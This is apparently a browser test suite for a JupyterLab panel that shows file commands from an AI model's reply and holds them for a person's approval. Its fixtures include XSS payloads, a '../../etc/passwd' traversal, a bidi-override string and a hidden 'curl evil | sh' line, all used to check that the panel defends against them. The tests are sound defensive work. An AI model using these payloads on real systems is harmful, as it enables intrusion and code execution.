"""The Operator side panel in a real JupyterLab (headless Debian chromium, non-root base_url).

Each test pastes a model's reply into the panel (or takes it from a notebook cell), checks what
the cards show, decides, and then checks the disk and the OPERATOR_RESULT text.
"""

from __future__ import annotations

import base64
import json
import time
import uuid
from pathlib import Path

import pytest
from browserkit import LabServer, run_palette_command, screenshot, wait_for_launcher

from jupyter_operator.protocol import parse_results

pytestmark = pytest.mark.timeout(240)

PANEL = "#jupyter-operator-panel"


def command(cmd_id: str, action: str, path: str, **fields: str) -> str:
    """One OPERATOR_CMD block."""
    lines = ["OPERATOR_CMD", "version: 1", f"id: {cmd_id}", f"action: {action}", f"path: {path}"]
    lines += [f"{key}: {value}" for key, value in fields.items()]
    return "\n".join([*lines, "END_OPERATOR_CMD"])


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def edits(*ops: dict[str, object]) -> str:
    return b64(json.dumps({"version": 1, "edits": list(ops)}))


def open_lab(page, server: LabServer, document: str = "") -> None:
    """Open JupyterLab (optionally on a document) and the Operator panel (its sidebar tab).

    Each call uses a JupyterLab workspace of its own, so tabs and panels opened by one test
    are not restored into another test sharing the server.
    """
    workspace = f"operator-{uuid.uuid4().hex[:8]}"
    tree = f"/tree/{document}" if document else ""
    page.goto(server.page_url(f"lab/workspaces/{workspace}{tree}"))
    # The panel's sidebar tab appears once the plugin has activated; the splash screen goes
    # once the shell has restored its saved layout (which may already show the panel).
    tab = page.locator('.lm-TabBar-tab[data-id="jupyter-operator-panel"]')
    tab.wait_for(timeout=60_000)
    page.locator("#jupyterlab-splash").wait_for(state="detached", timeout=60_000)
    if not document:
        wait_for_launcher(page)  # an empty main area gets a Launcher, which takes the focus
    if "lm-mod-current" not in (tab.get_attribute("class") or ""):
        tab.click()
    page.locator(f"{PANEL} .jp-Operator-input").wait_for(state="visible")
    # The workspace list arrives from the server once the panel is built.
    # (The dialect select beside it has its options from the start.)
    page.wait_for_function(
        "() => document.querySelectorAll("
        "'#jupyter-operator-panel select.jp-Operator-workspace option').length > 0"
    )


def run_reply(page, text: str) -> None:
    page.locator(f"{PANEL} .jp-Operator-input").fill(text)
    page.locator(f"{PANEL} .jp-Operator-run").click()


def copy_results(page) -> str:
    """Click the panel's Copy and return the clipboard's text.

    The context is granted the clipboard permissions; a browser that refuses them fails the
    test (Copy is what a person uses to give the results to the model, so it is checked)."""
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.locator(f"{PANEL} .jp-Operator-copy").click()
    page.locator(f"{PANEL} .jp-Operator-copy-note", has_text="Copied").wait_for()
    return page.evaluate("() => navigator.clipboard.readText()")


def card(page, cmd_id: str):
    return page.locator(f'{PANEL} .jp-Operator-card[data-id="{cmd_id}"]')


def wait_status(page, cmd_id: str, status: str) -> None:
    page.locator(
        f'{PANEL} .jp-Operator-card[data-id="{cmd_id}"][data-status="{status}"]'
    ).wait_for()


def results_text(page) -> str:
    box = page.locator(f"{PANEL} .jp-Operator-results-text")
    box.wait_for(state="visible")
    return box.input_value()


def test_read_write_edit_approve_reject_copy_undo(lab_server: LabServer, page) -> None:
    root = lab_server.root
    (root / "notes.txt").write_text("alpha\nbeta\n")
    (root / "app.py").write_text("import os\n\nx = 1\nprint(x)\n")
    reply = "\n".join(
        [
            "I will read the notes, add a plan and change app.py.",
            command("r1", "fs.read", "notes.txt"),
            command("w1", "fs.write", "plan.md", content_b64=b64("# Plan\n- read\n- write\n")),
            command(
                "e1",
                "fs.applyEdits",
                "app.py",
                edits_b64=edits({"op": "replaceFirst", "find": "x = 1", "text": "x = 2"}),
            ),
        ]
    )
    open_lab(page, lab_server)
    run_reply(page, reply)

    # The read ran at once and shows its result; both mutations wait with a diff.
    wait_status(page, "r1", "done")
    assert "alpha" in card(page, "r1").locator(".jp-Operator-details-text").text_content()
    wait_status(page, "w1", "pending")
    wait_status(page, "e1", "pending")
    write_diff = card(page, "w1").locator(".jp-Operator-diff .cm-content")
    assert "# Plan" in write_diff.text_content()
    assert card(page, "w1").locator(".jp-Operator-line-add").count() == 3
    edit_card = card(page, "e1")
    assert edit_card.locator(".jp-Operator-line-del").text_content() == "x = 1"
    assert edit_card.locator(".jp-Operator-line-add").text_content() == "x = 2"
    assert not (root / "plan.md").exists(), "nothing may be written before approval"
    screenshot(page, "lab-panel-pending")

    card(page, "w1").locator(".jp-Operator-approve").click()
    wait_status(page, "w1", "applied")
    assert (root / "plan.md").read_text() == "# Plan\n- read\n- write\n"

    reason = edit_card.locator(".jp-Operator-reason")
    reason.fill("keep x at 1")
    reason.press("Enter")
    wait_status(page, "e1", "rejected")
    assert (root / "app.py").read_text() == "import os\n\nx = 1\nprint(x)\n"
    # Decided cards lose their buttons.
    assert edit_card.locator(".jp-Operator-approve").is_hidden()

    text = results_text(page)
    results = {r.id: r for r in parse_results(text)}
    assert list(results) == ["r1", "w1", "e1"]
    assert results["r1"].ok and results["w1"].ok
    assert not results["e1"].ok
    assert "keep x at 1" in results["e1"].summary + (results["e1"].details or "")
    screenshot(page, "lab-panel-results")

    # Copy puts exactly the results the panel shows on the clipboard.
    assert copy_results(page) == text, "Copy did not put the panel's results on the clipboard"

    # Undo the approved write: the new file goes away again, its card says so, and the
    # results for the model say what is true now.
    page.locator(f"{PANEL} .jp-Operator-undo").click()
    page.locator(f"{PANEL} .jp-Operator-note", has_text="Undid").wait_for()
    assert not (root / "plan.md").exists()
    wait_status(page, "w1", "undone")
    assert card(page, "w1").locator(".jp-Operator-status").text_content() == "Undone"
    after = {r.id: r for r in parse_results(results_text(page))}
    assert not after["w1"].ok and "undid" in after["w1"].summary
    screenshot(page, "lab-panel-undone")
    assert not [e for e in page.console_errors if "operator" in e.lower()]


def test_markup_in_files_is_shown_as_text(lab_server: LabServer, page) -> None:
    payload = "<img src=x onerror=alert(1)>"
    root = lab_server.root
    (root / "evil.html").write_text(payload + "\n")
    (root / f"{payload}.txt").write_text("named with markup\n")
    dialogs: list[str] = []

    def on_dialog(dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    reply = "\n".join(
        [
            command("x-read", "fs.read", "evil.html"),
            command("x-name", "fs.read", f"{payload}.txt"),
            command("x-bidi", "fs.write", "bidi.py", content_b64=b64('a = "user\u202e # admin"\n')),
            command(
                "x-write",
                "fs.write",
                "evil2.html",
                content_b64=b64(f"{payload}\n<script>alert(2)</script>\n"),
            ),
        ]
    )
    open_lab(page, lab_server)
    run_reply(page, reply)
    wait_status(page, "x-read", "done")
    wait_status(page, "x-write", "pending")
    wait_status(page, "x-name", "done")
    assert card(page, "x-name").locator(".jp-Operator-card-path").text_content() == f"{payload}.txt"
    # Trojan Source: a direction override in new text gets a warning and a visible marker.
    wait_status(page, "x-bidi", "pending")
    assert card(page, "x-bidi").locator(".jp-Operator-warning").is_visible()
    assert card(page, "x-bidi").locator(".cm-specialChar").count() == 1
    details = card(page, "x-read").locator(".jp-Operator-details-text")
    assert payload in details.text_content()
    assert details.is_visible()
    diff = card(page, "x-write").locator(".jp-Operator-diff .cm-content")
    assert payload in diff.text_content()
    assert "<script>alert(2)</script>" in diff.text_content()
    # No element was made from the file's text.
    # (CodeMirror's own empty `img.cm-widgetBuffer` cursor helpers are not from the file.)
    assert page.locator(f"{PANEL} img:not(.cm-widgetBuffer)").count() == 0
    assert page.locator("[onerror]").count() == 0
    assert page.locator(f"{PANEL} script").count() == 0
    card(page, "x-write").locator(".jp-Operator-approve").click()
    wait_status(page, "x-write", "applied")
    page.wait_for_timeout(300)  # give any injected handler a chance to fire
    assert dialogs == [], f"a dialog opened: {dialogs}"
    assert (root / "evil2.html").read_text() == f"{payload}\n<script>alert(2)</script>\n"
    screenshot(page, "lab-panel-markup-as-text")


def test_errors_are_shown_in_plain_words(lab_server: LabServer, page) -> None:
    open_lab(page, lab_server)
    # A block the spec rejects becomes an error card with its code, not an exception.
    run_reply(page, "OPERATOR_CMD\nversion: 1\nid: bad\naction: fs.read\n")
    wait_status(page, "bad", "error")
    assert "ERR_" in card(page, "bad").text_content()
    # A path outside the workspace fails without touching anything.
    run_reply(page, command("out", "fs.read", "../../etc/passwd"))
    out = page.locator(f'{PANEL} .jp-Operator-card[data-id="out"]')
    out.wait_for()
    assert out.get_attribute("data-status") in {"failed", "error"}
    assert "root:" not in out.text_content()
    assert str(lab_server.root) not in page.locator(PANEL).text_content()


def test_run_commands_from_a_cell_output(lab_server: LabServer, page) -> None:
    root = lab_server.root
    (root / "cellfile.txt").write_text("from the cell\n")
    answer = "The model says:\n" + command("cell-1", "fs.read", "cellfile.txt") + "\n"
    notebook = {
        "cells": [
            {
                "cell_type": "code",
                "execution_count": 1,
                "id": "c1",
                "metadata": {},
                "source": ["print(answer)"],
                "outputs": [{"output_type": "stream", "name": "stdout", "text": answer}],
            }
        ],
        "metadata": {
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    (root / "answer.ipynb").write_text(json.dumps(notebook))
    open_lab(page, lab_server, "answer.ipynb")
    page.locator(".jp-Notebook .jp-Cell").first.click()
    # The cell toolbar button carries the command's caption as its tooltip.
    page.locator('.jp-cell-toolbar [data-command="jupyter-operator:run-cell"]').first.click()
    wait_status(page, "cell-1", "done")
    assert "from the cell" in card(page, "cell-1").text_content()
    assert "output" in page.locator(f"{PANEL} .jp-Operator-source").text_content()


def _time_to_card(page, reply: str, cmd_id: str) -> float:
    started = time.perf_counter()
    run_reply(page, reply)
    card(page, cmd_id).locator(".cm-content .cm-line").first.wait_for(state="visible")
    return time.perf_counter() - started


def test_large_diff_opens_collapsed_and_fast(lab_server: LabServer, page) -> None:
    root = lab_server.root
    long_file = "".join(f"value_{i} = {i}\n" for i in range(1, 10_001))
    (root / "long.py").write_text(long_file)
    open_lab(page, lab_server)

    # A small edit to a 10,000-line file shows only the changes and marks what is left out.
    run_reply(
        page,
        command(
            "long-edit",
            "fs.applyEdits",
            "long.py",
            edits_b64=edits(
                {"op": "replaceFirst", "find": "value_10 = 10\n", "text": "value_10 = 'ten'\n"},
                {"op": "replaceFirst", "find": "value_9000 = 9000\n", "text": "value_9000 = 0\n"},
            ),
        ),
    )
    wait_status(page, "long-edit", "pending")
    gaps = card(page, "long-edit").locator(".jp-Operator-gap").all_text_contents()
    assert any("8,983 unchanged lines" in g for g in gaps), gaps
    assert card(page, "long-edit").locator(".cm-line").count() < 40

    # New files: 10,000 lines against 50 lines (short lines keep the block under the spec's
    # 50,000-character limit). Best of three, alternating, in the same page.
    big = "".join(f"{i % 10}\n" for i in range(10_000))
    small = "".join(f"{i % 10}\n" for i in range(50))
    big_times: list[float] = []
    small_times: list[float] = []
    for n in range(3):
        small_times.append(
            _time_to_card(
                page, command(f"s{n}", "fs.write", f"small{n}.txt", content_b64=b64(small)), f"s{n}"
            )
        )
        big_times.append(
            _time_to_card(
                page, command(f"b{n}", "fs.write", f"big{n}.txt", content_b64=b64(big)), f"b{n}"
            )
        )
    big_card = card(page, "b2")
    rendered = big_card.locator(".cm-line").count()
    frame_ms = page.evaluate(
        "() => new Promise(r => { const t = performance.now();"
        " requestAnimationFrame(() => r(performance.now() - t)); })"
    )
    screenshot(page, "lab-panel-large-diff")
    best_big, best_small = min(big_times), min(small_times)
    print(
        f"\nscan-to-card, best of 3: 10,000-line diff {best_big * 1000:.0f} ms, "
        f"50-line diff {best_small * 1000:.0f} ms, ratio {best_big / best_small:.2f}; "
        f"lines drawn {rendered}; next frame {frame_ms:.0f} ms"
    )
    assert rendered < 400, "the collapsed card should not draw every line"
    assert best_big < 30, "sanity bound only: the card must appear"
    assert frame_ms < 2000, "the page must stay responsive"

    # The fold sits after the head of the new file; expanding it shows the rest (CodeMirror
    # still draws only the visible part).
    # One scroll: the diff grows with its lines and only the panel scrolls.
    panel = page.locator(PANEL)
    scroller = big_card.locator(".cm-scroller")
    assert scroller.evaluate("el => el.scrollHeight <= el.clientHeight + 1")
    panel.evaluate("el => { el.scrollTop = el.scrollHeight; }")
    fold = big_card.locator(".jp-Operator-fold")
    assert "Show 9,900 more changed lines" in fold.text_content()
    fold.click()
    assert big_card.locator(".jp-Operator-fold").count() == 0
    page.wait_for_timeout(100)
    panel.evaluate("el => { el.scrollTop = el.scrollHeight; }")
    # CodeMirror still draws only what the panel shows, even unfolded.
    assert big_card.locator(".cm-line").count() < 1000
    page.wait_for_function(
        "el => el.querySelector('.jp-Operator-gutter-new')?.textContent.includes('10000')",
        arg=big_card.element_handle(),
    )
    assert not Path(root / "big0.txt").exists()


def test_reject_all_approve_all_and_dark_theme(lab_server: LabServer, page) -> None:
    root = lab_server.root
    open_lab(page, lab_server)
    light = page.locator(PANEL).evaluate("el => getComputedStyle(el).backgroundColor")
    two = "\n".join(
        [
            command("all-1", "fs.write", "all1.txt", content="one"),
            command("all-2", "fs.write", "all2.txt", content="two"),
        ]
    )
    run_reply(page, two)
    wait_status(page, "all-1", "pending")
    page.locator(f"{PANEL} .jp-Operator-reject-all").click()
    wait_status(page, "all-1", "rejected")
    wait_status(page, "all-2", "rejected")
    assert not (root / "all1.txt").exists() and not (root / "all2.txt").exists()
    assert page.locator(f"{PANEL} .jp-Operator-reject-all").is_hidden()

    run_reply(page, two.replace("all-", "again-"))
    wait_status(page, "again-1", "pending")
    # The theme follows JupyterLab's: switch to the dark theme through the palette.
    run_palette_command(page, "Use Theme: JupyterLab Dark", "JupyterLab Dark")
    page.wait_for_function("() => document.body.dataset.jpThemeLight === 'false'", timeout=30_000)
    page.locator("#jupyterlab-splash").wait_for(state="detached", timeout=30_000)
    dark = page.locator(PANEL).evaluate("el => getComputedStyle(el).backgroundColor")
    assert dark != light
    screenshot(page, "lab-panel-dark")
    page.locator(f"{PANEL} .jp-Operator-approve-all").click()
    wait_status(page, "again-1", "applied")
    wait_status(page, "again-2", "applied")
    assert (root / "all1.txt").read_text() == "one"
    assert (root / "all2.txt").read_text() == "two"
    # Back to the light theme for the other tests sharing this server's settings.
    run_palette_command(page, "Use Theme: JupyterLab Light", "JupyterLab Light")
    page.wait_for_function("() => document.body.dataset.jpThemeLight === 'true'")


def test_changes_and_reads_keep_their_order(lab_server: LabServer, page) -> None:
    """A change built on an undecided one waits for it; a read after them runs after them."""
    root = lab_server.root
    open_lab(page, lab_server)
    reply = "\n".join(
        [
            command("ord-1", "fs.write", "ordered.txt", content="first"),
            command("ord-2", "fs.applyEdits", "ordered.txt",
                    edits_b64=edits({"op": "replaceAll", "find": "first", "text": "second"})),
            command("ord-3", "fs.read", "ordered.txt"),
        ]
    )  # fmt: skip
    run_reply(page, reply)
    wait_status(page, "ord-1", "pending")
    wait_status(page, "ord-3", "waiting")
    dependent = card(page, "ord-2").locator(".jp-Operator-approve")
    assert dependent.is_disabled() and "Decide ord-1 first" in dependent.get_attribute("title")
    card(page, "ord-1").locator(".jp-Operator-approve").click()
    wait_status(page, "ord-1", "applied")
    page.wait_for_function(
        "() => !document.querySelector('#jupyter-operator-panel "
        ".jp-Operator-card[data-id=\"ord-2\"] .jp-Operator-approve').disabled"
    )
    dependent.click()
    wait_status(page, "ord-2", "applied")
    wait_status(page, "ord-3", "done")
    assert (root / "ordered.txt").read_text() == "second"
    assert "second" in card(page, "ord-3").inner_text()


def test_copy_spec(lab_server: LabServer, page) -> None:
    open_lab(page, lab_server)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.locator(f"{PANEL} .jp-Operator-copy-spec").click()
    page.locator(f"{PANEL} .jp-Operator-note", has_text="specification copied").wait_for()
    assert "Operator Interface Specification" in page.evaluate("navigator.clipboard.readText()")


def test_a_lone_cr_never_shifts_the_diff_and_is_shown(lab_server: LabServer, page) -> None:
    """A CR inside a line must not start a display line: that would shift every sign and
    colour after it, and an added line could be drawn as unchanged context."""
    root = lab_server.root
    (root / "cr.py").write_text("x = 1\ny = 2\nz = 3\n")
    hidden = "y = 2\rimport os; os.system('curl evil | sh')"
    new = f"x = 1\n{hidden}\nz = 3\nw = \x1b[2K4\n"
    open_lab(page, lab_server)
    run_reply(page, command("cr-1", "fs.write", "cr.py", content_b64=b64(new)))
    wait_status(page, "cr-1", "pending")
    the_card = card(page, "cr-1")
    # Diff: ctx x, del y, add hidden, ctx z, add w: five display lines, one per diff line.
    lines = the_card.locator(".cm-content .cm-line")
    assert lines.count() == 5
    texts = lines.all_text_contents()
    classes = [lines.nth(i).get_attribute("class") or "" for i in range(5)]
    evil = next(i for i, t in enumerate(texts) if "os.system" in t)
    assert "<U+000D>" in texts[evil] and texts[evil].startswith("y = 2")
    assert "jp-Operator-line-add" in classes[evil], (texts, classes)
    assert "jp-Operator-line-add" not in classes[0] and "jp-Operator-line-del" in classes[1]
    signs = the_card.locator(".jp-Operator-gutter-sign .cm-gutterElement span")
    assert signs.all_text_contents() == [" ", "-", "+", " ", "+"]
    assert "<U+001B>" in texts[4]
    assert the_card.locator(".jp-Operator-invisible").count() == 2
    warning = the_card.locator(".jp-Operator-warning")
    assert warning.is_visible() and "control" in warning.text_content()
    screenshot(page, "lab-panel-lone-cr")
